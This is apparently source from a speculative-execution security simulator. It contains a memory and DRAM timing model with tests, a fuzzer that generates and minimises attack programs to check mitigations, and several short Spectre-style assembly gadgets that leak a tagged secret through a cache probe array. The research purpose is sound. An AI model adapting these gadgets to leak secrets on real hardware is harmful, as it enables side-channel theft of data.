		walk(uint64(pn), p)
	}
	for pn, p := range m.high {
		walk(pn, p)
	}
}

// LoadProgram copies a program's data blocks into memory. Code is fetched
// from the Program structure directly (the I-side models timing only), but
// data must live in the image for loads/stores.
func (m *Image) LoadProgram(p *asm.Program) {
	for _, d := range p.Data {
		m.Write(d.Addr, d.Bytes)
	}
}

// CodeReader adapts a set of programs (one per hardware thread, possibly
// shared) into an instruction fetch source.
type CodeReader struct {
	prog *asm.Program
}

// NewCodeReader wraps a program for instruction fetch.
func NewCodeReader(p *asm.Program) *CodeReader { return &CodeReader{prog: p} }

// Fetch returns the instruction at pc, or nil when pc is not code.
func (c *CodeReader) Fetch(pc uint64) *isa.Inst { return c.prog.InstAt(pc) }

// DRAMConfig holds the timing parameters of the DRAM channel model.
type DRAMConfig struct {
	Latency     uint64 // row access latency in cycles
	BurstCycles uint64 // channel occupancy per line transfer
	TagBurst    uint64 // extra channel occupancy for a tag-storage fetch
}

// DefaultDRAMConfig mirrors a ~100-cycle memory with modest bandwidth.
func DefaultDRAMConfig() DRAMConfig {
	return DRAMConfig{Latency: 100, BurstCycles: 4, TagBurst: 1}
}

// Controller is the memory-controller timing model. It owns the DRAM channel
// occupancy and implements the parallel data+tag fetch. It is shared between
// cores; channel contention is modelled with a next-free timestamp.
//
// Allocation tags are 4 bits per 16-byte granule — 1/32 of the data volume —
// so tag reads are batched: one tag burst serves tagBatch line fills.
type Controller struct {
	cfg      DRAMConfig
	tagsOn   bool // whether tag storage fetches are issued at all
	nextFree uint64
	tagAccum uint64

	// Stats.
	Fetches    uint64
	TagFetches uint64
	Writebacks uint64
	BusyWait   uint64 // cycles requests spent waiting for the channel
}

// NewController returns a controller with the given DRAM timing. tagsOn
// selects whether the platform fetches MTE tag storage in parallel with data
// (false for the unsafe, non-MTE baseline).
func NewController(cfg DRAMConfig, tagsOn bool) *Controller {
	return &Controller{cfg: cfg, tagsOn: tagsOn}
}

// FetchLine returns the cycle at which a full line (data plus, when enabled,
// its allocation tags) is available, for a request arriving at cycle now.
func (c *Controller) FetchLine(now uint64) (readyAt uint64) {
	start := now
	if c.nextFree > start {
		c.BusyWait += c.nextFree - start
		start = c.nextFree
	}
	busy := c.cfg.BurstCycles
	if c.tagsOn {
		c.tagAccum++
		if c.tagAccum%tagBatch == 0 {
			busy += c.cfg.TagBurst
			c.TagFetches++
		}
	}
	c.nextFree = start + busy
	c.Fetches++
	return start + c.cfg.Latency + busy
}

// tagBatch is the number of line fills amortising one tag-storage burst
// (one 64-byte tag burst covers 32 lines of tags; 8 is conservative,
// accounting for spatial spread).
const tagBatch = 8

// Writeback accounts a dirty-line eviction reaching DRAM. It consumes
// channel bandwidth but nothing waits on it.
func (c *Controller) Writeback(now uint64) {
	start := now
	if c.nextFree > start {
		start = c.nextFree
	}
	busy := c.cfg.BurstCycles
	if c.tagsOn {
		c.tagAccum++
		if c.tagAccum%tagBatch == 0 {
			busy += c.cfg.TagBurst
		}
	}
	c.nextFree = start + busy
	c.Writebacks++
}

// TagsEnabled reports whether the controller fetches tag storage.
func (c *Controller) TagsEnabled() bool { return c.tagsOn }

// Latency returns the configured DRAM access latency in cycles.
func (c *Controller) Latency() uint64 { return c.cfg.Latency }

// String summarises controller activity.
func (c *Controller) String() string {
	return fmt.Sprintf("memctrl{fetches=%d tagFetches=%d writebacks=%d busyWait=%d}",
		c.Fetches, c.TagFetches, c.Writebacks, c.BusyWait)
}
