// Package mem provides the functional memory image (a sparse, paged byte
// store plus the MTE tag storage) and the timing model of the DRAM channel
// and memory controller.
//
// Functional state and timing are deliberately separated: stores reach the
// image only at commit, so the image always holds the committed architectural
// state, while caches, the LFB and the controller model *when* bytes and tag
// checks become visible. The memory controller issues the data fetch and the
// tag-storage fetch as two parallel requests and reports the tag-check
// outcome with the response (§3.3.4 of the paper); on a tag mismatch for a
// speculative request the data is withheld.
package mem

import (
	"fmt"
	"sort"

	"specasan/internal/asm"
	"specasan/internal/isa"
	"specasan/internal/mte"
)

const pageBytes = 4096

// Image is the committed architectural memory: sparse 4 KiB pages plus the
// authoritative MTE tag storage.
type Image struct {
	pages map[uint64]*[pageBytes]byte
	Tags  *mte.Storage
}

// NewImage returns an empty memory image.
func NewImage() *Image {
	return &Image{pages: make(map[uint64]*[pageBytes]byte), Tags: mte.NewStorage()}
}

func (m *Image) page(addr uint64, create bool) *[pageBytes]byte {
	pn := addr / pageBytes
	p := m.pages[pn]
	if p == nil && create {
		p = new([pageBytes]byte)
		m.pages[pn] = p
	}
	return p
}

// PageAddrs returns the base address of every allocated page, sorted — the
// iteration surface for whole-memory comparison in differential tests.
func (m *Image) PageAddrs() []uint64 {
	out := make([]uint64, 0, len(m.pages))
	for pn := range m.pages {
		out = append(out, pn*pageBytes)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// PageBytes is the image's page granularity.
const PageBytes = pageBytes

// ByteAt returns the byte at the (tag-stripped) address.
func (m *Image) ByteAt(addr uint64) byte {
	addr = mte.Strip(addr)
	p := m.page(addr, false)
	if p == nil {
		return 0
	}
	return p[addr%pageBytes]
}

// SetByte stores one byte at the (tag-stripped) address.
func (m *Image) SetByte(addr uint64, v byte) {
	addr = mte.Strip(addr)
	m.page(addr, true)[addr%pageBytes] = v
}

// Read copies size bytes starting at addr into a fresh slice.
func (m *Image) Read(addr uint64, size int) []byte {
	out := make([]byte, size)
	for i := range out {
		out[i] = m.ByteAt(addr + uint64(i))
	}
	return out
}

// Write stores the bytes starting at addr.
func (m *Image) Write(addr uint64, b []byte) {
	for i, v := range b {
		m.SetByte(addr+uint64(i), v)
	}
}

// ReadU64 reads a little-endian 64-bit value.
func (m *Image) ReadU64(addr uint64) uint64 {
	var v uint64
	for i := 0; i < 8; i++ {
		v |= uint64(m.ByteAt(addr+uint64(i))) << (8 * i)
	}
	return v
}

// WriteU64 stores a little-endian 64-bit value.
func (m *Image) WriteU64(addr uint64, v uint64) {
	for i := 0; i < 8; i++ {
		m.SetByte(addr+uint64(i), byte(v>>(8*i)))
	}
}

// ReadUint reads size bytes (1 or 8) as an unsigned little-endian integer.
func (m *Image) ReadUint(addr uint64, size int) uint64 {
	switch size {
	case 1:
		return uint64(m.ByteAt(addr))
	case 8:
		return m.ReadU64(addr)
	default:
		var v uint64
		for i := 0; i < size && i < 8; i++ {
			v |= uint64(m.ByteAt(addr+uint64(i))) << (8 * i)
		}
		return v
	}
}

// WriteUint stores size bytes (1 or 8) of v little-endian.
func (m *Image) WriteUint(addr uint64, v uint64, size int) {
	for i := 0; i < size && i < 8; i++ {
		m.SetByte(addr+uint64(i), byte(v>>(8*i)))
	}
}

// LoadProgram copies a program's data blocks into memory. Code is fetched
// from the Program structure directly (the I-side models timing only), but
// data must live in the image for loads/stores.
func (m *Image) LoadProgram(p *asm.Program) {
	for _, d := range p.Data {
		m.Write(d.Addr, d.Bytes)
	}
}

// CodeReader adapts a set of programs (one per hardware thread, possibly
// shared) into an instruction fetch source.
type CodeReader struct {
	prog *asm.Program
}

// NewCodeReader wraps a program for instruction fetch.
func NewCodeReader(p *asm.Program) *CodeReader { return &CodeReader{prog: p} }

// Fetch returns the instruction at pc, or nil when pc is not code.
func (c *CodeReader) Fetch(pc uint64) *isa.Inst { return c.prog.InstAt(pc) }

// DRAMConfig holds the timing parameters of the DRAM channel model.
type DRAMConfig struct {
	Latency     uint64 // row access latency in cycles
	BurstCycles uint64 // channel occupancy per line transfer
	TagBurst    uint64 // extra channel occupancy for a tag-storage fetch
}

// DefaultDRAMConfig mirrors a ~100-cycle memory with modest bandwidth.
func DefaultDRAMConfig() DRAMConfig {
	return DRAMConfig{Latency: 100, BurstCycles: 4, TagBurst: 1}
}

// Controller is the memory-controller timing model. It owns the DRAM channel
// occupancy and implements the parallel data+tag fetch. It is shared between
// cores; channel contention is modelled with a next-free timestamp.
//
// Allocation tags are 4 bits per 16-byte granule — 1/32 of the data volume —
// so tag reads are batched: one tag burst serves tagBatch line fills.
type Controller struct {
	cfg      DRAMConfig
	tagsOn   bool // whether tag storage fetches are issued at all
	nextFree uint64
	tagAccum uint64

	// Stats.
	Fetches    uint64
	TagFetches uint64
	Writebacks uint64
	BusyWait   uint64 // cycles requests spent waiting for the channel
}

// NewController returns a controller with the given DRAM timing. tagsOn
// selects whether the platform fetches MTE tag storage in parallel with data
// (false for the unsafe, non-MTE baseline).
func NewController(cfg DRAMConfig, tagsOn bool) *Controller {
	return &Controller{cfg: cfg, tagsOn: tagsOn}
}

// FetchLine returns the cycle at which a full line (data plus, when enabled,
// its allocation tags) is available, for a request arriving at cycle now.
func (c *Controller) FetchLine(now uint64) (readyAt uint64) {
	start := now
	if c.nextFree > start {
		c.BusyWait += c.nextFree - start
		start = c.nextFree
	}
	busy := c.cfg.BurstCycles
	if c.tagsOn {
		c.tagAccum++
		if c.tagAccum%tagBatch == 0 {
			busy += c.cfg.TagBurst
			c.TagFetches++
		}
	}
	c.nextFree = start + busy
	c.Fetches++
	return start + c.cfg.Latency + busy
}

// tagBatch is the number of line fills amortising one tag-storage burst
// (one 64-byte tag burst covers 32 lines of tags; 8 is conservative,
// accounting for spatial spread).
const tagBatch = 8

// Writeback accounts a dirty-line eviction reaching DRAM. It consumes
// channel bandwidth but nothing waits on it.
func (c *Controller) Writeback(now uint64) {
	start := now
	if c.nextFree > start {
		start = c.nextFree
	}
	busy := c.cfg.BurstCycles
	if c.tagsOn {
		c.tagAccum++
		if c.tagAccum%tagBatch == 0 {
			busy += c.cfg.TagBurst
		}
	}
	c.nextFree = start + busy
	c.Writebacks++
}

// TagsEnabled reports whether the controller fetches tag storage.
func (c *Controller) TagsEnabled() bool { return c.tagsOn }

// Latency returns the configured DRAM access latency in cycles.
func (c *Controller) Latency() uint64 { return c.cfg.Latency }

// String summarises controller activity.
func (c *Controller) String() string {
	return fmt.Sprintf("memctrl{fetches=%d tagFetches=%d writebacks=%d busyWait=%d}",
		c.Fetches, c.TagFetches, c.Writebacks, c.BusyWait)
}
