package mem

import (
	"bytes"
	"testing"
	"testing/quick"

	"specasan/internal/asm"
	"specasan/internal/mte"
)

func TestImageReadWriteRoundTrip(t *testing.T) {
	m := NewImage()
	m.WriteU64(0x1000, 0xdead_beef_cafe_f00d)
	if got := m.ReadU64(0x1000); got != 0xdead_beef_cafe_f00d {
		t.Fatalf("round trip = %#x", got)
	}
	// Little-endian byte order.
	if m.ByteAt(0x1000) != 0x0d || m.ByteAt(0x1007) != 0xde {
		t.Fatal("endianness wrong")
	}
	// Unmapped memory reads as zero and does not allocate.
	if m.ByteAt(0x999999) != 0 {
		t.Fatal("unmapped read must be zero")
	}
}

func TestImageStripsPointerTags(t *testing.T) {
	m := NewImage()
	tagged := mte.WithKey(0x2000, 0xb)
	m.WriteU64(tagged, 42)
	if m.ReadU64(0x2000) != 42 {
		t.Fatal("tagged and untagged pointers must reach the same bytes")
	}
}

func TestImageCrossPageAccess(t *testing.T) {
	m := NewImage()
	addr := uint64(4096 - 4) // straddles a page boundary
	m.WriteU64(addr, 0x1122334455667788)
	if got := m.ReadU64(addr); got != 0x1122334455667788 {
		t.Fatalf("cross-page = %#x", got)
	}
}

func TestTagSidecarGranuleAtPageEdge(t *testing.T) {
	m := NewImage()
	edge := uint64(PageBytes - mte.GranuleBytes) // last granule of page 0
	m.Tags.SetLock(edge, 5)
	if got := m.Tags.Lock(edge); got != 5 {
		t.Fatalf("lock at page-edge granule = %d, want 5", got)
	}
	// The neighbouring granule lives in the next page's sidecar and must be
	// untouched (and still reachable even though its page is unmapped).
	if got := m.Tags.Lock(PageBytes); got != 0 {
		t.Fatalf("first granule of next page = %d, want 0", got)
	}
	// An access from the edge granule into the untagged next page must fail.
	if m.Tags.CheckAccess(mte.WithKey(edge, 5), 32) {
		t.Fatal("straddle into untagged next page must fail")
	}
	if !m.Tags.CheckAccess(mte.WithKey(edge, 5), 16) {
		t.Fatal("access within the edge granule must pass")
	}
}

func TestTagSidecarRangeStraddlesPages(t *testing.T) {
	// SetRange across a page boundary — what an ST2G at the last granule of
	// a page performs — must land one lock in each page's sidecar.
	m := NewImage()
	base := uint64(3*PageBytes - mte.GranuleBytes)
	m.Tags.SetRange(base, 2*mte.GranuleBytes, 9)
	if got := m.Tags.Lock(base); got != 9 {
		t.Fatalf("lock in first page = %d, want 9", got)
	}
	if got := m.Tags.Lock(3 * PageBytes); got != 9 {
		t.Fatalf("lock in second page = %d, want 9", got)
	}
	if m.Tags.TaggedGranules() != 2 {
		t.Fatalf("TaggedGranules = %d, want 2", m.Tags.TaggedGranules())
	}
	// A 32-byte access covering both granules passes only with the right key.
	if !m.Tags.CheckAccess(mte.WithKey(base, 9), 32) {
		t.Fatal("matching cross-page access must pass")
	}
	if m.Tags.CheckAccess(mte.WithKey(base, 4), 32) {
		t.Fatal("mismatched cross-page access must fail")
	}
	// Clearing the straddling pair updates both sidecars and the census.
	m.Tags.SetRange(base, 2*mte.GranuleBytes, 0)
	if m.Tags.TaggedGranules() != 0 {
		t.Fatalf("TaggedGranules after clear = %d, want 0", m.Tags.TaggedGranules())
	}
}

func TestReadWriteUintSizes(t *testing.T) {
	m := NewImage()
	m.WriteUint(0x3000, 0xabcd, 1)
	if m.ReadUint(0x3000, 1) != 0xcd {
		t.Fatal("byte write must truncate")
	}
	m.WriteUint(0x3010, 0x1234567890, 8)
	if m.ReadUint(0x3010, 8) != 0x1234567890 {
		t.Fatal("word size wrong")
	}
}

func TestQuickReadWrite(t *testing.T) {
	m := NewImage()
	f := func(addr uint32, val uint64) bool {
		a := uint64(addr)
		m.WriteU64(a, val)
		return m.ReadU64(a) == val
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestLoadProgram(t *testing.T) {
	p := asm.MustAssemble(`
_start:
    NOP
    .org 0x5000
data:
    .word 7, 8
    .ascii "hi"
`)
	m := NewImage()
	m.LoadProgram(p)
	if m.ReadU64(0x5000) != 7 || m.ReadU64(0x5008) != 8 {
		t.Fatal("words not loaded")
	}
	if !bytes.Equal(m.Read(0x5010, 2), []byte("hi")) {
		t.Fatal("ascii not loaded")
	}
}

func TestControllerLatencyAndBandwidth(t *testing.T) {
	c := NewController(DRAMConfig{Latency: 100, BurstCycles: 4, TagBurst: 1}, false)
	r1 := c.FetchLine(0)
	if r1 != 104 {
		t.Fatalf("first fetch ready at %d, want 104", r1)
	}
	// A burst of fetches serialises on the channel.
	var last uint64
	for i := 0; i < 10; i++ {
		last = c.FetchLine(0)
	}
	if last < 100+4*11 {
		t.Fatalf("channel contention missing: %d", last)
	}
	if c.BusyWait == 0 {
		t.Fatal("busy-wait cycles not accounted")
	}
}

func TestControllerTagTrafficBatched(t *testing.T) {
	plain := NewController(DRAMConfig{Latency: 100, BurstCycles: 4, TagBurst: 1}, false)
	tagged := NewController(DRAMConfig{Latency: 100, BurstCycles: 4, TagBurst: 1}, true)
	var lastPlain, lastTagged uint64
	for i := 0; i < 64; i++ {
		lastPlain = plain.FetchLine(0)
		lastTagged = tagged.FetchLine(0)
	}
	if lastTagged <= lastPlain {
		t.Fatal("tag traffic must consume extra bandwidth")
	}
	// But far less than one burst per fill (tags are 1/32 of the data).
	if lastTagged-lastPlain > 64 {
		t.Fatalf("tag overhead too high: %d extra cycles", lastTagged-lastPlain)
	}
	if tagged.TagFetches == 0 || tagged.TagFetches >= tagged.Fetches {
		t.Fatalf("tag fetches %d of %d fills: batching broken", tagged.TagFetches, tagged.Fetches)
	}
}

func TestCodeReader(t *testing.T) {
	p := asm.MustAssemble("NOP\nHLT")
	cr := NewCodeReader(p)
	if in := cr.Fetch(p.Entry); in == nil {
		t.Fatal("fetch failed")
	}
	if in := cr.Fetch(0xdeadbeef); in != nil {
		t.Fatal("non-code fetch must return nil")
	}
}
