package fuzzer

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"

	"specasan/internal/attacks"
	"specasan/internal/scenario"
)

// PoCSchema versions the emitted PoC document format.
const PoCSchema = "specasan-poc/v1"

// PoC kinds.
const (
	KindCounterexample = "counterexample" // leak where the bits claim blocked
	KindKnownGap       = "known-gap"      // leak through a documented exception
)

// FlaggedMit names one mitigation the PoC defeats, with the claims-model
// judgment it contradicts or exercises.
type FlaggedMit struct {
	Mitigation string `json:"mitigation"`
	Claim      string `json:"claim"`
	Reason     string `json:"reason"`
}

// PoC is one minimised find: a self-contained Table-1-style row. The
// document carries everything needed to replay it — minimised source, setup
// spec, the full per-mitigation verdict sweep — plus a pinned scenario
// preset referencing the assembly file written next to it.
type PoC struct {
	Schema   string `json:"schema"`
	Name     string `json:"name"`
	Kind     string `json:"kind"`
	Seed     uint64 `json:"seed"`
	Index    int    `json:"index"`
	Trigger  string `json:"trigger"`
	Relation string `json:"relation"`
	Channel  string `json:"channel"`

	Flagged []FlaggedMit `json:"flagged"`
	// Rows is the post-minimisation sweep over every registered mitigation:
	// the PoC's Table 1 row.
	Rows []MitRow `json:"rows"`

	Source string            `json:"source"`
	Setup  attacks.SetupSpec `json:"setup"`

	// Scenario is the pinned scenario document for re-running this PoC
	// through the sweep harness; its workload references the .s file
	// emitted beside the JSON document.
	Scenario *scenario.Scenario `json:"scenario,omitempty"`
}

// Variant wraps the PoC for replay through attacks.RunVariantWith — the
// path TestPoCCorpusVerdicts and the CI corpus-replay step use.
func (p *PoC) Variant() attacks.Variant {
	return p.Setup.Variant(p.Name, p.Source, evalMaxCycles)
}

// BuildPoC assembles the emitted document from a minimised candidate and
// its full-registry evaluation. mitNames pins the scenario's mitigation
// columns (registry order).
func BuildPoC(min *Candidate, kind string, flagged []FlaggedMit, rows []MitRow, mitNames []string) *PoC {
	name := fmt.Sprintf("%s-%s", min.FeatureSig(), min.Hash()[:12])
	return &PoC{
		Schema: PoCSchema, Name: name, Kind: kind,
		Seed: min.Seed, Index: min.Index,
		Trigger: min.Trigger, Relation: min.Relation, Channel: min.Channel,
		Flagged: flagged, Rows: rows,
		Source: min.Source, Setup: min.Setup,
		Scenario: scenario.PoCScenario(name, name+".s", mitNames),
	}
}

// Write emits the PoC into dir: <name>.json (the document) and <name>.s
// (the minimised source the embedded scenario references). Returns the JSON
// path. Output is byte-stable: canonical field order, trailing newline.
func (p *PoC) Write(dir string) (string, error) {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return "", err
	}
	asmPath := filepath.Join(dir, p.Name+".s")
	if err := os.WriteFile(asmPath, []byte(p.Source), 0o644); err != nil {
		return "", err
	}
	doc, err := json.MarshalIndent(p, "", "  ")
	if err != nil {
		return "", err
	}
	jsonPath := filepath.Join(dir, p.Name+".json")
	if err := os.WriteFile(jsonPath, append(doc, '\n'), 0o644); err != nil {
		return "", err
	}
	return jsonPath, nil
}

// ReadPoC loads one emitted document.
func ReadPoC(path string) (*PoC, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var p PoC
	if err := json.Unmarshal(data, &p); err != nil {
		return nil, fmt.Errorf("%s: %w", path, err)
	}
	if p.Schema != PoCSchema {
		return nil, fmt.Errorf("%s: schema %q (want %q)", path, p.Schema, PoCSchema)
	}
	return &p, nil
}
