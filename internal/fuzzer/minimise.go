package fuzzer

import (
	"fmt"

	"specasan/internal/core"
)

// Minimise shrinks a flagged candidate to a minimal instruction sequence
// that still exhibits its defining property: it leaks under mit, terminates
// cleanly, and its architectural state cross-checks against the golden
// interpreter. Body lines shrink by classic ddmin (complement-preserving
// delta debugging); the trigger's training count then shrinks to the
// smallest value that still works.
//
// Minimisation is deterministic — a pure function of the candidate — so the
// emitted corpus is byte-identical across runs and worker counts. An error
// means the find is unminimisable: the original candidate no longer replays
// its own property, which for a deterministic simulator indicates a claims/
// evaluation bug and fails the fuzz run loudly.
func Minimise(c *Candidate, mit core.Mitigation) (*Candidate, error) {
	holds := func(body []string, train int) bool {
		t := &Candidate{
			Seed: c.Seed, Index: c.Index,
			Trigger: c.Trigger, Relation: c.Relation, Channel: c.Channel,
			Train: train, Body: append([]string(nil), body...),
		}
		if t.Render() != nil {
			return false
		}
		ev := EvaluateCandidate(t, []core.Mitigation{mit})
		return ev.Valid && len(ev.Diverged) == 0 && len(ev.Rows) == 1 && ev.Rows[0].Leaked
	}

	if !holds(c.Body, c.Train) {
		return nil, fmt.Errorf("unminimisable: %s does not replay its leak under %v", c.Name(), mit)
	}

	body := ddmin(c.Body, func(lines []string) bool { return holds(lines, c.Train) })

	train := c.Train
	if train > 0 {
		lo := 3 // template floor for both pht and btb
		for t := lo; t < train; t++ {
			if holds(body, t) {
				train = t
				break
			}
		}
	}

	out := &Candidate{
		Seed: c.Seed, Index: c.Index,
		Trigger: c.Trigger, Relation: c.Relation, Channel: c.Channel,
		Train: train, Body: body,
	}
	if err := out.Render(); err != nil {
		return nil, err
	}
	return out, nil
}

// ddmin is the classic Zeller/Hildebrandt algorithm over line sets: split
// into n chunks, try each chunk alone, then each complement, refining
// granularity until single-line resolution. test must hold for the input
// and is monotone-checked on every probe.
func ddmin(lines []string, test func([]string) bool) []string {
	cur := append([]string(nil), lines...)
	n := 2
	for len(cur) >= 2 {
		chunks := split(cur, n)
		reduced := false
		// Subsets first: a single chunk that still leaks is a big win.
		for _, chunk := range chunks {
			if test(chunk) {
				cur, n, reduced = chunk, 2, true
				break
			}
		}
		if !reduced {
			// Complements: drop one chunk at a time.
			for i := range chunks {
				comp := complement(chunks, i)
				if test(comp) {
					cur = comp
					n = max(n-1, 2)
					reduced = true
					break
				}
			}
		}
		if !reduced {
			if n >= len(cur) {
				break
			}
			n = min(2*n, len(cur))
		}
	}
	return cur
}

func split(lines []string, n int) [][]string {
	out := make([][]string, 0, n)
	size := len(lines) / n
	rem := len(lines) % n
	at := 0
	for i := 0; i < n; i++ {
		sz := size
		if i < rem {
			sz++
		}
		if sz == 0 {
			continue
		}
		out = append(out, lines[at:at+sz])
		at += sz
	}
	return out
}

func complement(chunks [][]string, skip int) []string {
	var out []string
	for i, ch := range chunks {
		if i != skip {
			out = append(out, ch...)
		}
	}
	return out
}
