// Package fuzzer is the attack-discovery loop: a deterministic, seed-driven
// generator assembles three-phase attack programs (transient trigger →
// secret transmit → oracle receive) from the trigger templates in
// internal/attacks, an evaluation engine runs each candidate across every
// registered mitigation policy, a claims model flags programs that leak
// under a mitigation whose behaviour bits claim coverage, and a
// delta-debugging minimiser shrinks each find into a Table-1-style PoC row.
//
// Everything is deterministic in (seed, index): the same seed produces a
// byte-identical PoC corpus at any worker count, and candidates are
// content-hashed through internal/store so interrupted runs resume as cache
// hits.
package fuzzer

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"strings"

	"specasan/internal/attacks"
)

// Candidate is one generated attack program: the structured recipe (trigger,
// relation, channel, body lines) plus the rendered source. The body is kept
// as lines because that is the minimiser's unit of deletion.
type Candidate struct {
	Seed     uint64 `json:"seed"`
	Index    int    `json:"index"`
	Trigger  string `json:"trigger"`
	Relation string `json:"relation"`
	Channel  string `json:"channel"`
	// Train is the trigger's training-iteration count (0 where the trigger
	// has none).
	Train int `json:"train,omitempty"`
	// Body is the gadget placed in the transient window: access phase (for
	// pointer triggers) plus the transmit encoding.
	Body []string `json:"body"`

	Source string            `json:"source"`
	Setup  attacks.SetupSpec `json:"setup"`
}

// Render fills Source and Setup from the structured fields. Candidates
// edited by the minimiser call this to re-materialise the program.
func (c *Candidate) Render() error {
	src, setup, err := attacks.RenderGadget(c.Trigger, c.Relation, c.Train, strings.Join(c.Body, "\n"))
	if err != nil {
		return err
	}
	c.Source, c.Setup = src, setup
	return nil
}

// Hash content-addresses the candidate: everything that determines its
// behaviour (source text and setup), nothing that doesn't (seed, index).
// Used as the store key name and in emitted PoC file names.
func (c *Candidate) Hash() string {
	h := sha256.New()
	h.Write([]byte(c.Source))
	setup, _ := json.Marshal(c.Setup)
	h.Write(setup)
	return hex.EncodeToString(h.Sum(nil))[:16]
}

// FeatureSig is the dedup signature for corpus emission: candidates with
// the same trigger/relation/channel shape tell the same story, so only the
// first (lowest index) of each shape is minimised and emitted.
func (c *Candidate) FeatureSig() string {
	return c.Trigger + "-" + c.Relation + "-" + c.Channel
}

// Name labels the candidate for logs and variant names.
func (c *Candidate) Name() string {
	return fmt.Sprintf("fuzz-%d-%d-%s", c.Seed, c.Index, c.FeatureSig())
}

// evalMaxCycles bounds one candidate run. Generated programs finish in a
// few thousand cycles; a candidate that spins this long is inconclusive.
const evalMaxCycles = 400_000

// Variant wraps the candidate as an attacks.Variant for RunVariantWith.
func (c *Candidate) Variant() attacks.Variant {
	return c.Setup.Variant(c.Name(), c.Source, evalMaxCycles)
}
