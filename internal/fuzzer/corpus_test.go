package fuzzer

import (
	"path/filepath"
	"reflect"
	"testing"

	"specasan/internal/attacks"
	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/scenario"
)

// TestPoCCorpusParallelCoresByteIdentical replays the checked-in PoC corpus
// with intra-machine parallel core stepping requested and pins every
// outcome — leak bit, secret-read count, per-channel event counts, and the
// exact cycle count — to the serial replay. PoC machines are single-core,
// so the machine's eligibility check must route them to the serial walk;
// any outcome drift here means the stepping mode leaked into results.
func TestPoCCorpusParallelCoresByteIdentical(t *testing.T) {
	paths, err := filepath.Glob(filepath.Join("testdata", "pocs", "*.json"))
	if err != nil {
		t.Fatal(err)
	}
	if len(paths) == 0 {
		t.Fatal("no checked-in PoCs under testdata/pocs")
	}
	for _, path := range paths {
		path := path
		t.Run(filepath.Base(path), func(t *testing.T) {
			t.Parallel()
			p, err := ReadPoC(path)
			if err != nil {
				t.Fatal(err)
			}
			for _, row := range p.Rows {
				mit, err := core.ParseMitigation(row.Mitigation)
				if err != nil {
					t.Fatalf("row names unknown mitigation: %v", err)
				}
				serial, err := attacks.RunVariantWith(p.Variant(), mit, nil)
				if err != nil {
					t.Fatalf("serial replay under %v: %v", mit, err)
				}
				parallel, err := attacks.RunVariantWith(p.Variant(), mit,
					func(m *cpu.Machine) { m.ParallelCores = 4 })
				if err != nil {
					t.Fatalf("parallel replay under %v: %v", mit, err)
				}
				if !reflect.DeepEqual(serial, parallel) {
					t.Errorf("%v: parallel-cores replay diverged:\nserial   %+v\nparallel %+v",
						mit, serial, parallel)
				}
			}
		})
	}
}

// TestPoCCorpusVerdicts replays every checked-in PoC (testdata/pocs, the
// seed-1 corpus) and pins its per-mitigation verdict rows: each flagged
// mitigation must still leak, each blocked row must still block, and the
// claims model must still judge the shape the way the document records. A
// failure here means a defence implementation, the oracle, or the claims
// model changed behaviour — exactly the regression the corpus exists to
// catch. Regenerate with: specasan-fuzz -seed 1 -n 64 -out <tmp> and copy
// <tmp>/pocs over testdata/pocs.
func TestPoCCorpusVerdicts(t *testing.T) {
	_ = scenario.DelayOnMiss // ensure the registry includes the ninth policy
	paths, err := filepath.Glob(filepath.Join("testdata", "pocs", "*.json"))
	if err != nil {
		t.Fatal(err)
	}
	if len(paths) == 0 {
		t.Fatal("no checked-in PoCs under testdata/pocs")
	}
	for _, path := range paths {
		path := path
		t.Run(filepath.Base(path), func(t *testing.T) {
			t.Parallel()
			p, err := ReadPoC(path)
			if err != nil {
				t.Fatal(err)
			}
			if len(p.Flagged) == 0 {
				t.Fatal("PoC flags no mitigation")
			}
			flagged := map[string]bool{}
			for _, f := range p.Flagged {
				flagged[f.Mitigation] = true
			}
			cand := &Candidate{Trigger: p.Trigger, Relation: p.Relation, Channel: p.Channel}
			for _, row := range p.Rows {
				mit, err := core.ParseMitigation(row.Mitigation)
				if err != nil {
					t.Fatalf("row names unknown mitigation: %v", err)
				}
				// The claims model still judges this shape as recorded.
				if tier, _ := Claim(mit, cand); tier.String() != row.Claim {
					t.Errorf("%v claim drifted: %s, corpus says %s", mit, tier, row.Claim)
				}
				out, err := attacks.RunVariantWith(p.Variant(), mit, nil)
				if err != nil {
					t.Fatalf("replay under %v: %v", mit, err)
				}
				if out.Leaked != row.Leaked {
					t.Errorf("%v: leaked=%v, corpus pinned %v", mit, out.Leaked, row.Leaked)
				}
				if out.Faulted || out.TimedOut {
					t.Errorf("%v: replay faulted=%v timedout=%v", mit, out.Faulted, out.TimedOut)
				}
				if flagged[row.Mitigation] && !out.Leaked {
					t.Errorf("%v is flagged but no longer leaks", mit)
				}
			}
		})
	}
}
