
_start:
    ADR  X22, probe
    ADR  X15, fuzzprobe
    MOV  X7, #13

    MOV  X13, #1048704
    LDG  X13, [X13]
    LDR  X14, [X13]        // victim recently used its secret: it is cached
    DSB                    // the warm access completes before the attack
    MOV X26, #1048704
    LDG X26, [X26]
    ADR  X9, lrslot
    LDR  X30, [X9]
    RET

gadget:
    LDR  X5, [X26]
    LSL  X6, X5, #6
    LDR  X8, [X15, X6]
    RET
real_continue:
    BTI
    SVC  #0

    .org 0x120000
lrslot:
    .word real_continue

    .org 1048576
array1:
    .space 128
    .org 1114112
probe:
    .space 4096

    .org 2097152
fuzzprobe:
    .space 65536

