
_start:
    ADR  X22, probe
    ADR  X15, fuzzprobe
    MOV  X7, #13
    MOV  X28, #1048704
    LDG  X28, [X28]
    LDR  X14, [X28]
    DSB
    ADR  X9, depslot
    LDR  X1, [X9]
    AND  X1, X1, #7
    ADD  X2, X28, X1
    STR  XZR, [X2]
    LDR  X3, [X28]
    MOV  X5, X3
    LSL  X6, X5, #6
    LDR  X8, [X15, X6]
    SVC  #0

    .org 0x120000
depslot:
    .word 0

    .org 1048576
array1:
    .space 128
    .org 1114112
probe:
    .space 4096

    .org 2097152
fuzzprobe:
    .space 65536

