
_start:
    ADR  X20, size_slot
    ADR  X21, array1
    LDG  X21, [X21]
    ADR  X22, probe
    ADR  X15, fuzzprobe
    MOV  X27, #128
    MOV  X28, #8
    MOV  X7, #13

    MOV  X13, #1048704
    LDG  X13, [X13]
